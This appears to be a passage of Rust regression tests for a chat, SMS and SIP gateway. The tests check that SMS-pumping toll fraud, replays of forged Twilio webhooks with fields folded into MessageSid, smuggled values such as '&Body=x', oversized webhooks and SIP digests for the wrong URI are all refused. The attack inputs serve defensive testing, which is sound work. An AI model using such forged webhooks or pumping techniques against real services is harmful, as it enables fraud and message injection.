    let gw = Gateway::start("");
    let peer = Peer::new("127.0.0.1", &gw);
    let answer = peer
        .final_answer(&peer.options("server1"), Duration::from_secs(3))
        .expect("an answer to OPTIONS");
    assert_eq!(status_of(&answer), 200, "{answer}");
    assert_eq!(header(&answer, "Server"), Some("crossline"), "{answer}");
}

// ---- the web chat: SMS pumping and anonymous chats ----

const CHAT_OPERATOR_TOKEN: &str = "operator-token-for-abuse-tests";

/// A gateway running the web chat (tests/flows/switch) with SMS through
/// the Twilio stand-in on `standin_port`; `extra` goes into `[messaging]`
/// and `chat_extra` into `[chat]`.
fn chat_gateway(standin_port: u16, messaging_extra: &str, chat_extra: &str) -> Gateway {
    chat_gateway_with(
        &repo().join("tests/flows/switch"),
        "support",
        standin_port,
        messaging_extra,
        chat_extra,
    )
}

/// The same, with the flows in `flows` and `web_flow` for the web chat.
fn chat_gateway_with(
    flows: &std::path::Path,
    web_flow: &str,
    standin_port: u16,
    messaging_extra: &str,
    chat_extra: &str,
) -> Gateway {
    Gateway::start(&format!(
        "[flows]\ndir = \"{flows}\"\n\n\
         [http]\noperator_token = \"{CHAT_OPERATOR_TOKEN}\"\n\n\
         [chat]\ntitle = \"Example Co.\"\nweb_flow = \"{web_flow}\"\n{chat_extra}\n\n\
         [messaging]\n{messaging_extra}\n\n\
         [messaging.sms]\nprovider = \"twilio\"\nbase_url = \"http://127.0.0.1:{standin_port}\"\naccount_sid = \"AC0123456789abcdef\"\nauth_token = \"twilio-auth-token-for-tests\"\nfrom = \"+15550100000\"\nwebhook_url = \"https://chat.example.com/hooks/twilio/sms\"\n",
        flows = flows.display(),
    ))
}

/// The operator API's conversation list.
fn operator_conversations(gw: &Gateway) -> Vec<serde_json::Value> {
    let auth = format!("Bearer {CHAT_OPERATOR_TOKEN}");
    let r = gw.http(
        "GET",
        "/v1/conversations",
        &[("Authorization", &auth)],
        None,
    );
    assert_eq!(r.status, 200, "{}", r.body);
    r.json()["conversations"]
        .as_array()
        .cloned()
        .unwrap_or_default()
}

/// Every SMS body the Twilio stand-in was asked to send, as (to, body).
fn all_sms(log: &common::standin::Log) -> Vec<(String, String)> {
    log.lock()
        .unwrap()
        .iter()
        .filter(|s| s.path.starts_with("twilio/"))
        .map(|s| common::standin::form(&s.body))
        .map(|f| {
            (
                f.get("To").cloned().unwrap_or_default(),
                f.get("Body").cloned().unwrap_or_default(),
            )
        })
        .collect()
}

/// A fresh web chat with its socket open and resumed from the start.
async fn open_chat_socket(gw: &Gateway) -> (String, common::chat::Socket) {
    let (id, cookies) = common::chat::open_chat(gw);
    let mut ws = common::chat::connect(gw, &id, &cookies).await;
    common::chat::send(&mut ws, serde_json::json!({"type": "resume", "after": 0})).await;
    (id, ws)
}

/// Frames from `ws` (typing indicators skipped) until one satisfies
/// `done`, the socket ends, or `wait` passes; all of them, in order, and
/// whether `done` was met.
async fn frames_until(
    ws: &mut common::chat::Socket,
    wait: Duration,
    done: impl Fn(&serde_json::Value) -> bool,
) -> (Vec<serde_json::Value>, bool) {
    use futures_util::StreamExt;
    use tokio_tungstenite::tungstenite::Message;
    let deadline = tokio::time::Instant::now() + wait;
    let mut seen = Vec::new();
    loop {
        let msg = match tokio::time::timeout_at(deadline, ws.next()).await {
            Ok(Some(Ok(m))) => m,
            _ => return (seen, false),
        };
        let Message::Text(t) = msg else { continue };
        let v: serde_json::Value = serde_json::from_str(&t).unwrap();
        if v["type"] == "typing" {
            continue;
        }
        let hit = done(&v);
        seen.push(v);
        if hit {
            return (seen, true);
        }
    }
}

/// Send a switch frame and wait for its answer (`switch_code` or
/// `switch_failed`); every frame seen on the way, the answer last.
async fn switch_frame(
    ws: &mut common::chat::Socket,
    frame: serde_json::Value,
) -> Vec<serde_json::Value> {
    common::chat::send(ws, frame.clone()).await;
    let (seen, answered) = frames_until(ws, Duration::from_secs(10), |v| {
        v["type"] == "switch_code" || v["type"] == "switch_failed"
    })
    .await;
    assert!(answered, "no answer to {frame}: {seen:?}");
    seen
}

fn code_in_sms(text: &str) -> String {
    text.split(|c: char| !c.is_ascii_digit())
        .find(|w| w.len() == 6)
        .unwrap_or_else(|| panic!("no code in {text:?}"))
        .to_string()
}

/// SMS pumping (toll fraud) through the visitor's chat switch: one client
/// asking for codes to many numbers is held to its per-source budget and
/// each chat to its attempts; no chat moves without the code; countries
/// and premium numbers are refused before anything is sent; and a real
/// visitor with the code still switches.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sms_pumping_through_the_chat_switch_is_bounded() {
    use serde_json::json;

    // Budgets: 4 texts per source an hour, 3 attempts per chat.
    let (port, log, _twilio) = common::standin::stand_in();
    let gw = chat_gateway(
        port,
        "per_source_per_hour = 4\nswitch_attempts_per_conversation = 3",
        "",
    );
    let mut chats = Vec::new();
    for _ in 0..4 {
        chats.push(open_chat_socket(&gw).await);
    }
    let mut codes_per_chat = Vec::new();
    let mut failures = Vec::new();
    let mut every_frame = Vec::new();
    for (i, (_, ws)) in chats.iter_mut().enumerate() {
        let mut codes = 0;
        for j in 0..4 {
            let number = format!("+346120000{i}{j}");
            let seen = switch_frame(
                ws,
                json!({"type": "switch", "channel": "sms", "phone": number}),
            )
            .await;
            let answer = seen.last().unwrap().clone();
            if answer["type"] == "switch_code" {
                codes += 1;
            } else {
                failures.push(answer);
            }
            every_frame.extend(seen);
        }
        codes_per_chat.push(codes);
    }
    let sent = all_sms(&log);
    assert!(sent.len() <= 4, "past the per-source budget: {sent:?}");
    assert_eq!(sent.len(), 4, "the budget itself is usable: {sent:?}");
    assert_eq!(
        codes_per_chat.iter().sum::<usize>(),
        sent.len(),
        "one code per SMS"
    );
    assert!(
        codes_per_chat.iter().all(|&c| c <= 3),
        "one chat got past its attempts: {codes_per_chat:?}"
    );
    assert_eq!(codes_per_chat, vec![3, 1, 0, 0]);
    for (i, _) in chats.iter().enumerate() {
        let to_chat = sent
            .iter()
            .filter(|(to, _)| to.starts_with(&format!("+346120000{i}")))
            .count();
        assert!(to_chat <= 3, "chat {i} texted {to_chat} numbers: {sent:?}");
    }
    assert!(sent
        .iter()
        .all(|(_, body)| body.starts_with("Example Co.: your code is ")));
    assert_eq!(failures.len(), 12, "{failures:?}");
    assert!(failures
        .iter()
        .all(|f| f["text"].as_str().is_some_and(|t| !t.is_empty())));

    // A wrong code moves nothing either.
    let first_code = code_in_sms(&sent[0].1);
    let wrong = if first_code == "000000" {
        "111111"
    } else {
        "000000"
    };
    let seen = switch_frame(
        &mut chats[0].1,
        json!({"type": "switch", "channel": "sms", "code": wrong}),
    )
    .await;
    assert_eq!(seen.last().unwrap()["type"], "switch_failed", "{seen:?}");
    every_frame.extend(seen);

    // No chat moved: not on any socket, not for the operators.
    assert!(
        every_frame.iter().all(|v| v["type"] != "channel"),
        "a chat switched without its code: {every_frame:?}"
    );
    for (_, ws) in chats.iter_mut() {
        let (late, _) = frames_until(ws, Duration::from_millis(300), |_| false).await;
        assert!(late.iter().all(|v| v["type"] != "channel"), "{late:?}");
    }
    let listed = operator_conversations(&gw);
    for (id, _) in &chats {
        if let Some(c) = listed.iter().find(|c| c["id"] == id.as_str()) {
            assert_eq!(c["channel"], "web", "{c}");
        }
    }
    assert_metric_at_least(
        &gw,
        "crossline_outbound_refused_total{channel=\"sms\",reason=\"conversation_attempts\"}",
        1.0,
    );
    assert_metric_at_least(
        &gw,
        "crossline_outbound_refused_total{channel=\"sms\",reason=\"source_budget\"}",
        11.0,
    );
    drop(chats);
    drop(gw);

    // Only Spain, and no premium numbers: refused before anything is sent.
    let (port, log, _twilio) = common::standin::stand_in();
    let gw = chat_gateway(port, "allowed_countries = [\"ES\"]", "");
    let (id, mut ws) = open_chat_socket(&gw).await;
    for number in ["+12025550123", "+34806123456"] {
        let seen = switch_frame(
            &mut ws,
            json!({"type": "switch", "channel": "sms", "phone": number}),
        )
        .await;
        assert_eq!(
            seen.last().unwrap()["type"],
            "switch_failed",
            "{number}: {seen:?}"
        );
    }
    assert!(all_sms(&log).is_empty(), "{:?}", all_sms(&log));
    assert_metric_at_least(
        &gw,
        "crossline_outbound_refused_total{channel=\"sms\",reason=\"country\"}",
        1.0,
    );
    assert_metric_at_least(
        &gw,
        "crossline_outbound_refused_total{channel=\"sms\",reason=\"premium\"}",
        1.0,
    );

    // The legitimate visitor: the code from the SMS completes the switch.
    let visitor = "+34612345678";
    let seen = switch_frame(
        &mut ws,
        json!({"type": "switch", "channel": "sms", "phone": visitor}),
    )
    .await;
    assert_eq!(seen.last().unwrap()["type"], "switch_code", "{seen:?}");
    assert!(
        seen.iter().all(|v| v["type"] != "channel"),
        "moved before the code: {seen:?}"
    );
    let texts = common::standin::sms_to(&log, visitor);
    assert_eq!(texts.len(), 1, "one code, one SMS: {texts:?}");
    let code = code_in_sms(&texts[0]["Body"]);
    common::chat::send(
        &mut ws,
        json!({"type": "switch", "channel": "sms", "code": code}),
    )
    .await;
    let (seen, moved) = frames_until(&mut ws, Duration::from_secs(10), |v| {
        v["type"] == "channel" || v["type"] == "switch_failed"
    })
    .await;
    assert!(moved, "{seen:?}");
    let channel = seen.last().unwrap();
    assert_eq!(channel["type"], "channel", "{seen:?}");
    assert_eq!(channel["channel"], "sms", "{channel}");
    let listed = operator_conversations(&gw);
    let mine = listed
        .iter()
        .find(|c| c["id"] == id.as_str())
        .unwrap_or_else(|| panic!("the switched chat is not listed: {listed:?}"));
    assert_eq!(mine["channel"], "sms", "{mine}");
    assert_eq!(all_sms(&log).len(), 1, "{:?}", all_sms(&log));
}

/// Page loads keep nothing on the server; open but empty chats are
/// capped per client, the oldest closed to make room; a chat shows up
/// for operators (and in the store) once the visitor writes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn anonymous_page_loads_hold_nothing_and_chats_are_capped() {
    let (port, _log, _twilio) = common::standin::stand_in();
    let gw = chat_gateway(port, "", "max_anonymous_chats_per_source = 3");
    let stored = |gw: &Gateway| -> i64 {
        let db = rusqlite::Connection::open_with_flags(
            gw.db_path(),
            rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY,
        )
        .unwrap();
        db.query_row("SELECT COUNT(*) FROM conversations", [], |r| r.get(0))
            .unwrap()
    };

    let mut ids = std::collections::HashSet::new();
    for i in 0..200 {
        let page = gw.http("GET", "/chat/", &[], None);
        assert_eq!(page.status, 200, "page load {i}: {}", page.body);
        ids.insert(page.conversation_id());
    }
    assert_eq!(ids.len(), 200, "each page load its own id");
    assert!(operator_conversations(&gw).is_empty());
    assert_eq!(stored(&gw), 0, "page loads wrote conversations");

    // Five sockets from one client: the two oldest empty chats go.
    let mut chats = Vec::new();
    for _ in 0..5 {
        let (id, mut ws) = open_chat_socket(&gw).await;
        // The chat exists once its flow has spoken.
        let (seen, ok) =
            frames_until(&mut ws, Duration::from_secs(10), |v| v["type"] == "prompt").await;
        assert!(ok, "{seen:?}");
        chats.push((id, ws));
    }
    for (i, (_, ws)) in chats.iter_mut().enumerate().take(2) {
        let (seen, closed) =
            frames_until(ws, Duration::from_secs(5), |v| v["type"] == "closed").await;
        assert!(closed, "chat {i} was not evicted: {seen:?}");
    }
    for (i, (_, ws)) in chats.iter_mut().enumerate().skip(2) {
        let (seen, _) = frames_until(ws, Duration::from_secs(1), |v| v["type"] == "closed").await;
        assert!(
            seen.iter().all(|v| v["type"] != "closed"),
            "chat {i} was closed: {seen:?}"
        );
    }
    assert_metric_at_least(&gw, "crossline_chat_anonymous_evicted_total", 2.0);
    assert!(operator_conversations(&gw).is_empty());
    assert_eq!(stored(&gw), 0);

    // The visitor on the last one writes: now it is a conversation.
    let (last_id, ws) = chats.last_mut().unwrap();
    common::chat::send(ws, serde_json::json!({"type": "text", "text": "hello"})).await;
    let (seen, echoed) = frames_until(ws, Duration::from_secs(10), |v| {
        v["role"] == "visitor" && v["text"] == "hello"
    })
    .await;
    assert!(echoed, "{seen:?}");
    let deadline = Instant::now() + Duration::from_secs(5);
    let listed = loop {
        let listed = operator_conversations(&gw);
        if !listed.is_empty() || Instant::now() > deadline {
            break listed;
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    assert_eq!(listed.len(), 1, "{listed:?}");
    assert_eq!(listed[0]["id"], last_id.as_str(), "{listed:?}");
    let deadline = Instant::now() + Duration::from_secs(5);
    while stored(&gw) == 0 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(100));
    }
    assert_eq!(stored(&gw), 1, "the written chat is kept");
    let (_, ws) = chats.last_mut().unwrap();
    let (seen, _) = frames_until(ws, Duration::from_millis(300), |v| v["type"] == "closed").await;
    assert!(seen.iter().all(|v| v["type"] != "closed"), "{seen:?}");
}

// ---- the low findings ----

const TWILIO_AUTH: &str = "twilio-auth-token-for-tests";
/// The webhook URL configured at Twilio (what it signs), as in
/// `chat_gateway`.
const TWILIO_WEBHOOK_URL: &str = "https://chat.example.com/hooks/twilio/sms";
const OUR_NUMBER: &str = "+15550100000";

/// A signed inbound SMS, as Twilio sends it (common::standin).
fn inbound_sms(gw: &Gateway, sid: &str, from: &str, text: &str) -> HttpReply {
    common::standin::post_twilio_sms(
        gw,
        TWILIO_WEBHOOK_URL,
        TWILIO_AUTH,
        sid,
        from,
        OUR_NUMBER,
        text,
    )
}

/// The form fields of Twilio's inbound SMS webhook, in its order.
fn twilio_fields(sid: &str, from: &str, text: &str) -> Vec<(String, String)> {
    [
        ("ToCountry", "US"),
        ("SmsMessageSid", sid),
        ("NumMedia", "0"),
        ("SmsSid", sid),
        ("SmsStatus", "received"),
        ("Body", text),
        ("FromCountry", "ES"),
        ("To", OUR_NUMBER),
        ("NumSegments", "1"),
        ("MessageSid", sid),
        ("AccountSid", "AC0123456789abcdef"),
        ("From", from),
        ("ApiVersion", "2010-04-01"),
    ]
    .iter()
    .map(|(k, v)| (k.to_string(), v.to_string()))
    .collect()
}

/// Twilio's signature over `fields` (base64 HMAC-SHA1 of the URL and the
/// sorted name+value pairs), computed here, apart from the gateway.
fn twilio_signature(fields: &[(String, String)]) -> String {
    use base64::Engine;
    let mut sorted = fields.to_vec();
    sorted.sort();
    let mut data = TWILIO_WEBHOOK_URL.to_string();
    for (k, v) in &sorted {
        data.push_str(k);
        data.push_str(v);
    }
    base64::engine::general_purpose::STANDARD.encode(common::standin::hmac_sha1(
        TWILIO_AUTH.as_bytes(),
        data.as_bytes(),
    ))
}

/// POST `fields` form-encoded to the Twilio webhook with `signature`.
fn post_sms_form(gw: &Gateway, fields: &[(String, String)], signature: &str) -> HttpReply {
    use common::standin::form_encode;
    let body = fields
        .iter()
        .map(|(k, v)| format!("{}={}", form_encode(k), form_encode(v)))
        .collect::<Vec<_>>()
        .join("&");
    gw.http(
        "POST",
        "/hooks/twilio/sms",
        &[
            ("Content-Type", "application/x-www-form-urlencoded"),
            ("X-Twilio-Signature", signature),
        ],
        Some(&body),
    )
}

/// A GET on the operator API (chat_gateway's token).
fn operator_get(gw: &Gateway, path: &str) -> HttpReply {
    let auth = format!("Bearer {CHAT_OPERATOR_TOKEN}");
    gw.http("GET", path, &[("Authorization", &auth)], None)
}

/// Every transcript text of conversation `id`.
fn transcript(gw: &Gateway, id: &str) -> Vec<String> {
    let r = operator_get(gw, &format!("/v1/conversations/{id}"));
    assert_eq!(r.status, 200, "{}", r.body);
    r.json()["messages"]
        .as_array()
        .cloned()
        .unwrap_or_default()
        .iter()
        .map(|m| m["text"].as_str().unwrap_or_default().to_string())
        .collect()
}

/// Wait until the operators see `n` conversations; the list either way.
fn wait_conversations(gw: &Gateway, n: usize) -> Vec<serde_json::Value> {
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        let listed = operator_conversations(gw);
        if listed.len() >= n || Instant::now() > deadline {
            return listed;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// Twilio's SID is the dedupe key. A captured, signed webhook replayed
/// with the next field folded into MessageSid (`MessageSid=SM…` +
/// `NumMedia=0` becomes `MessageSid=SM…NumMedia0`) keeps its signature,
/// since the signature covers names and values run together; it used to
/// pass as a new message. Now a MessageSid that is not exactly a Twilio
/// SID is refused (400) and nothing is stored; the real message is
/// delivered once and its retry is a duplicate.
#[test]
fn twilio_replay_with_a_field_folded_into_the_message_sid_is_refused() {
    let (port, log, _twilio) = common::standin::stand_in();
    let gw = chat_gateway(port, "", "");
    let sid = "SM0123456789abcdef0123456789abcdef";
    let from = "+34633000222";
    let text = "Hola, llamadme mañana";

    // The genuine webhook, and the replay folded from it: same signature.
    let genuine = twilio_fields(sid, from, text);
    let signature = twilio_signature(&genuine);
    let mut folded: Vec<(String, String)> = genuine
        .iter()
        .filter(|(k, _)| k != "NumMedia")
        .cloned()
        .collect();
    for (k, v) in folded.iter_mut() {
        if k == "MessageSid" {
            *v = format!("{sid}NumMedia0");
        }
    }
    assert_eq!(
        twilio_signature(&folded),
        signature,
        "the fold keeps the signature"
    );

    // The replay first: refused, nothing delivered or stored.
    let r = post_sms_form(&gw, &folded, &signature);
    assert_eq!(r.status, 400, "the folded replay: {}", r.body);
    // Other text appended to a valid SID, freshly signed: refused too.
    for bad in [
        format!("{sid}&Body=x"),
        format!("{sid}2"),
        format!("{sid} "),
    ] {
        let r = inbound_sms(&gw, &bad, from, text);
        assert_eq!(r.status, 400, "MessageSid {bad:?}: {}", r.body);
    }
    std::thread::sleep(Duration::from_millis(300));
    assert!(
        operator_conversations(&gw).is_empty(),
        "a refused webhook made a conversation: {:?}",
        operator_conversations(&gw)
    );
    assert_metric_at_least(
        &gw,
        "crossline_webhooks_refused_total{channel=\"sms\",reason=\"malformed\"}",
        4.0,
    );

    // The genuine webhook: delivered once.
    let r = post_sms_form(&gw, &genuine, &signature);
    assert_eq!(r.status, 200, "the genuine webhook: {}", r.body);
    let listed = wait_conversations(&gw, 1);
    assert_eq!(listed.len(), 1, "{listed:?}");
    let id = listed[0]["id"].as_str().unwrap().to_string();
    assert_eq!(listed[0]["origin"], "sms", "{listed:?}");
    let count = |gw: &Gateway| transcript(gw, &id).iter().filter(|t| *t == text).count();
    assert_eq!(count(&gw), 1, "{:?}", transcript(&gw, &id));

    // Twilio's retry is a duplicate; the replay is still refused.
    let r = post_sms_form(&gw, &genuine, &signature);
    assert_eq!(r.status, 200, "the retry: {}", r.body);
    assert_metric_at_least(
        &gw,
        "crossline_inbound_messages_total{channel=\"sms\",result=\"duplicate\"}",
        1.0,
    );
    let r = post_sms_form(&gw, &folded, &signature);
    assert_eq!(r.status, 400, "the folded replay again: {}", r.body);
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(count(&gw), 1, "{:?}", transcript(&gw, &id));
    assert_eq!(operator_conversations(&gw).len(), 1);
    assert!(
        all_sms(&log).is_empty(),
        "nothing is sent back: {:?}",
        all_sms(&log)
    );
}

/// POST a body of `len` bytes to the Twilio webhook over raw TCP (with
/// Content-Length, or chunked), with `extra` header lines; the answer's
/// status. The body is written from another thread while the answer is
/// read, so a server that answers without reading cannot stall it.
fn post_big_webhook(gw: &Gateway, extra: &[(&str, &str)], len: usize, chunked: bool) -> u16 {
    let mut s = TcpStream::connect(("127.0.0.1", gw.http_port)).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    let mut head = String::from(
        "POST /hooks/twilio/sms HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\
         Content-Type: application/x-www-form-urlencoded\r\n",
    );
    for (k, v) in extra {
        head.push_str(&format!("{k}: {v}\r\n"));
    }
    if chunked {
        head.push_str("Transfer-Encoding: chunked\r\n");
    } else {
        head.push_str(&format!("Content-Length: {len}\r\n"));
    }
    head.push_str("\r\n");
    let mut w = s.try_clone().unwrap();
    w.set_write_timeout(Some(Duration::from_secs(10))).unwrap();
    let writer = std::thread::spawn(move || {
        let mut piece = b"Body=".to_vec();
        piece.resize(64 * 1024, b'a');
        let mut wire = head.into_bytes();
        let mut left = len;
        while left > 0 {
            let n = left.min(piece.len());
            if chunked {
                wire.extend_from_slice(format!("{n:x}\r\n").as_bytes());
                wire.extend_from_slice(&piece[..n]);
                wire.extend_from_slice(b"\r\n");
            } else {
                wire.extend_from_slice(&piece[..n]);
            }
            left -= n;
        }
        if chunked {
            wire.extend_from_slice(b"0\r\n\r\n");
        }
        // The server may answer and close before reading all of it.
        let _ = w.write_all(&wire);
    });
    let mut raw = Vec::new();
    let _ = s.read_to_end(&mut raw);
    let _ = s.shutdown(std::net::Shutdown::Both);
    writer.join().unwrap();
    let text = String::from_utf8_lossy(&raw);
    text.split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or(0)
}

/// A 2 MB webhook: unsigned, it is refused (403) before its body is
/// read; with a signature header, it is refused as too large (413,
/// before the signature is even checked). A genuine SMS still lands.
#[test]
fn unsigned_and_oversized_webhooks_are_refused() {
    let (port, _log, _twilio) = common::standin::stand_in();
    let gw = chat_gateway(port, "", "");
    let two_mb = 2 * 1024 * 1024;
    let mut wrong = Vec::new();
    for chunked in [false, true] {
        let status = post_big_webhook(&gw, &[], two_mb, chunked);
        if status != 403 {
            wrong.push(format!("unsigned, chunked={chunked}: {status} (want 403)"));
        }
        let status = post_big_webhook(
            &gw,
            &[("X-Twilio-Signature", "bm90IGEgcmVhbCBzaWduYXR1cmU=")],
            two_mb,
            chunked,
        );
        if status != 413 {
            wrong.push(format!("signed, chunked={chunked}: {status} (want 413)"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    assert_metric_at_least(
        &gw,
        "crossline_webhooks_refused_total{channel=\"sms\",reason=\"signature\"}",
        2.0,
    );
    assert_metric_at_least(
        &gw,
        "crossline_webhooks_refused_total{channel=\"sms\",reason=\"too_large\"}",
        2.0,
    );
    assert!(operator_conversations(&gw).is_empty());

    // Twilio's genuine webhook is served as ever.
    let r = inbound_sms(
        &gw,
        "SM00000000000000000000000000000031",
        "+34633000333",
        "still here",
    );
    assert_eq!(r.status, 200, "{}", r.body);
    let listed = wait_conversations(&gw, 1);
    assert_eq!(listed.len(), 1, "{listed:?}");
    let id = listed[0]["id"].as_str().unwrap();
    assert!(
        transcript(&gw, id).iter().any(|t| t == "still here"),
        "{:?}",
        transcript(&gw, id)
    );
}

/// All datagrams answering `msg` (its branch), provisional ones included,
/// until its final answer or `timeout`.
fn answers_to(peer: &Peer, msg: &str, timeout: Duration) -> Vec<String> {
    peer.send(msg);
    let branch = branch_of(msg);
    let deadline = Instant::now() + timeout;
    let mut got = Vec::new();
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        if left.is_zero() {
            return got;
        }
        let Some(m) = one_datagram(&peer.sock, left) else {
            return got;
        };
        if branch_of(&m) == branch {
            let last = status_of(&m) >= 200;
            got.push(m);
            if last {
                return got;
            }
        }
    }
}

/// A request within the dialog a 2xx to `invite` made (ACK or BYE), to
/// the Contact of `answer`.
fn in_dialog(peer: &Peer, invite: &str, answer: &str, method: &str, branch: &str) -> String {
    let contact = header(answer, "Contact").expect("a Contact in the 200");
    let target = contact
        .split('<')
        .nth(1)
        .and_then(|r| r.split('>').next())
        .unwrap_or(contact);
    let seq: u32 = header(invite, "CSeq")
        .unwrap()
        .split(' ')
        .next()
        .unwrap()
        .parse()
        .unwrap();
    let seq = if method == "ACK" { seq } else { seq + 1 };
    format!(
        "{method} {target} SIP/2.0\r\nVia: SIP/2.0/UDP {me};branch=z9hG4bK{branch}\r\nMax-Forwards: 70\r\n\
         From: {from}\r\nTo: {to}\r\nCall-ID: {call_id}\r\nCSeq: {seq} {method}\r\nContent-Length: 0\r\n\r\n",
        me = peer.me,
        from = header(invite, "From").unwrap(),
        to = header(answer, "To").unwrap(),
        call_id = header(invite, "Call-ID").unwrap(),
    )
}

/// A digest computed for another resource (its `uri` not the
/// Request-URI) proves nothing about this request: right password or
/// not, it is challenged again and no call starts. The same digest over
/// the Request-URI places the call.
#[test]
fn a_digest_for_another_uri_does_not_authorize_the_request() {
    let gw = Gateway::start(&format!(
        // The hand-made digest answers below are MD5.
        "[[trunks]]\nname = \"pbx\"\ninbound_username = \"{TRUNK_USER}\"\ninbound_password = \"{TRUNK_PASS}\"\ninbound_digest_algorithms = [\"MD5\"]\n"
    ));
    let attacker = Peer::new("127.0.0.2", &gw);
    let call_id = "other-uri@abuse";
    let bare = attacker.invite("u0", call_id, 1, "", "");
    let mut challenge = attacker
        .final_answer(&bare, Duration::from_secs(3))
        .expect("a challenge");
    assert_eq!(status_of(&challenge), 407, "{challenge}");
    attacker.ack_for(&bare, &challenge);
    let other_uris = [
        "sip:other@127.0.0.1".to_string(),
        // The same user and host, another port.
        format!("sip:service@127.0.0.1:{}", gw.sip_port + 1),
    ];
    for (i, uri) in other_uris.iter().enumerate() {
        let auth = digest_answer(
            header(&challenge, "Proxy-Authenticate").expect("Proxy-Authenticate"),
            TRUNK_USER,
            TRUNK_PASS,
            "INVITE",
            uri,
        );
        let invite = attacker.invite(
            &format!("u{}", i + 1),
            call_id,
            2 + i as u32,
            "",
            &format!("Proxy-Authorization: {auth}\r\n"),
        );
        let got = answers_to(&attacker, &invite, Duration::from_secs(3));
        assert_eq!(
            got.iter().map(|m| status_of(m)).collect::<Vec<_>>(),
            vec![407],
            "digest uri {uri:?} for Request-URI {}: {got:#?}",
            attacker.uri()
        );
        challenge = got.last().unwrap().clone();
        attacker.ack_for(&invite, &challenge);
    }
    // Nothing more comes for that call (no late 100/200).
    let late = datagrams_until(&attacker.sock, Instant::now() + Duration::from_millis(700));
    assert!(late.is_empty(), "{late:#?}");

    // The PBX: the same digest over the Request-URI places the call.
    let pbx = Peer::new("127.0.0.1", &gw);
    let call_id = "right-uri@abuse";
    let bare = pbx.invite("r0", call_id, 1, "", "");
    let ch = pbx
        .final_answer(&bare, Duration::from_secs(3))
        .expect("a challenge for the PBX");
    assert_eq!(status_of(&ch), 407, "{ch}");
    pbx.ack_for(&bare, &ch);
    let auth = digest_answer(
        header(&ch, "Proxy-Authenticate").unwrap(),
        TRUNK_USER,
        TRUNK_PASS,
        "INVITE",
        &pbx.uri(),
    );
    let invite = pbx.invite(
        "r1",
        call_id,
        2,
        "",
        &format!("Proxy-Authorization: {auth}\r\n"),
    );
    let got = answers_to(&pbx, &invite, Duration::from_secs(5));
    let statuses: Vec<u16> = got.iter().map(|m| status_of(m)).collect();
    assert_eq!(statuses.first(), Some(&100), "{got:#?}");
    assert_eq!(statuses.last(), Some(&200), "{got:#?}");
    let ok = got.last().unwrap().clone();
    pbx.send(&in_dialog(&pbx, &invite, &ok, "ACK", "r1ack"));
    let bye = in_dialog(&pbx, &invite, &ok, "BYE", "r1bye");
    let bye_answer = pbx
        .final_answer(&bye, Duration::from_secs(3))
        .expect("an answer to BYE");
    assert_eq!(status_of(&bye_answer), 200, "{bye_answer}");

    assert_metric_at_least(
        &gw,
        "crossline_sip_auth_failures_total{reason=\"wrong\"}",
        2.0,
    );
}

/// Flows for the chat findings, in a directory of their own: "frames"
/// (a greeting, then an agent) and "email-test" (asks an email address,
/// keeps it as a lead).
fn finding_flows() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("frames.toml"),
        "name = \"frames\"\nchannel = \"chat\"\n\n\
         [[nodes]]\nid = \"hello\"\ntype = \"message\"\ntext = \"Hi! This is Example Co.\"\nnext = \"agent\"\n\n\
         [[nodes]]\nid = \"agent\"\ntype = \"handoff\"\ntext = \"An agent will be with you shortly.\"\n",
    )
    .unwrap();
    std::fs::write(
        dir.path().join("email-test.toml"),
        "name = \"email-test\"\nchannel = \"chat\"\n\n\
         [[nodes]]\nid = \"email\"\ntype = \"ask\"\ninput = \"email\"\nvar = \"email\"\n\
         text = \"What is your email address?\"\n\
         retry_prompt = \"That doesn't look like an email address. Could you type it again?\"\n\
         retries = 3\nnext = \"lead\"\n\n\
         [[nodes]]\nid = \"lead\"\ntype = \"save_lead\"\nemail = \"{{email}}\"\nnext = \"thanks\"\n\n\
         [[nodes]]\nid = \"thanks\"\ntype = \"handoff\"\ntext = \"Thanks, we will write to {{email}}.\"\n",
    )
    .unwrap();
    dir
}

fn too_many(v: &serde_json::Value) -> bool {
    v["type"] == "error"
        && v["text"]
            .as_str()
            .is_some_and(|t| t.contains("Too many messages"))
}

/// The visitor's frame allowance (20 per 10 s) belongs to the
/// conversation, not the socket: closing and reconnecting does not start
/// a fresh one. Once the window has passed, the visitor is heard again.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_chat_frame_limit_survives_a_reconnect() {
    use serde_json::json;
    let flows = finding_flows();
    let (port, _log, _twilio) = common::standin::stand_in();
    let gw = chat_gateway_with(flows.path(), "frames", port, "", "");
    let (id, cookies) = common::chat::open_chat(&gw);
    let mut ws = common::chat::connect(&gw, &id, &cookies).await;
    common::chat::send(&mut ws, json!({"type": "resume", "after": 0})).await;
    let (seen, ok) = frames_until(&mut ws, Duration::from_secs(10), |v| {
        v["text"] == "An agent will be with you shortly."
    })
    .await;
    assert!(ok, "the flow's greeting: {seen:?}");

    // Twenty frames at once: all within the allowance.
    let window_start = Instant::now();
    for i in 0..20 {
        common::chat::send(
            &mut ws,
            json!({"type": "text", "text": format!("frame {i}")}),
        )
        .await;
    }
    let (seen, ok) = frames_until(&mut ws, Duration::from_secs(8), |v| {
        v["role"] == "visitor" && v["text"] == "frame 19"
    })
    .await;
    assert!(ok, "the 20th frame was not taken: {seen:?}");
    assert!(!seen.iter().any(too_many), "within the allowance: {seen:?}");
    let _ = ws.close(None).await;
    drop(ws);

    // Reconnect at once with the same cookies: still over the allowance.
    let mut ws = common::chat::connect(&gw, &id, &cookies).await;
    common::chat::send(&mut ws, json!({"type": "resume", "after": 0})).await;
    common::chat::send(&mut ws, json!({"type": "text", "text": "after reconnect"})).await;
    let (seen, refused) = frames_until(&mut ws, Duration::from_secs(5), too_many).await;
